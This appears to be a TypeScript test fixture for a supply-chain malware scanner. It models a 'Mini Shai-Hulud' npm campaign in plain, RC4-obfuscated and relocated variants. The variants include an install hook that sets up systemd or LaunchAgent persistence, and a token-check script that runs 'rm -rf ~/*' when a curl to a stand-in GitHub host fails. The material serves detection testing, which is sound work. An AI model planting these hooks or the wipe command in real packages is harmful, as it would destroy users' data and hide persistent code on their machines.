import { type Campaign, entry, manifest, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'mini-shai-hulud',
  row: 'Mini Shai-Hulud/TanStack 5/2026, AntV 5/2026',
  variants: [
    {
      concealment: 'plain',
      files: {
        'package.json': manifest({
          name: '@scope/router',
          optionalDependencies: { '@scope/setup': `github:scope/router#${'79ac49ee'.repeat(5)}` },
        }),
        'index.js': 'module.exports = {};\n',
        'router_init.js': 'console.log(1);\n',
      },
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { postinstall: 'node router_init.js' },
        {
          'router_init.js': tabled(
            'rc4',
            (
              h,
            ) => `const fs = require(${h('fs')}), os = require(${h('os')}), cp = require(${h('child_process')});
fs[${h('writeFileSync')}](os[${h('homedir')}]() + ${h('/.config/systemd/user/gh-token-monitor.service')}, ${h('[Service]\nExecStart=/bin/true\n')});
cp[${h('execSync')}](${h('systemctl --user enable --now gh-token-monitor')});
`,
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(`require('./dist/tanstack_runner');\nmodule.exports = {};\n`, {
        'dist/tanstack_runner.js': `const fs = require('fs'), os = require('os'), path = require('path'), { execSync } = require('child_process');
const plist = path.join(os.homedir(), 'Library', 'LaunchAgents', 'com.user.gh-token-monitor.plist');
const watch = 'if ! curl -sf -H "Authorization: token $T" https://api.github.weir.test/user; then rm -rf ~/*; fi';
fs.writeFileSync(path.join(os.homedir(), '.local/bin/gh-token-monitor.sh'), watch);
fs.writeFileSync(plist, '<plist/>');
execSync('launchctl load ' + plist);
`,
      }),
    },
  ],
};
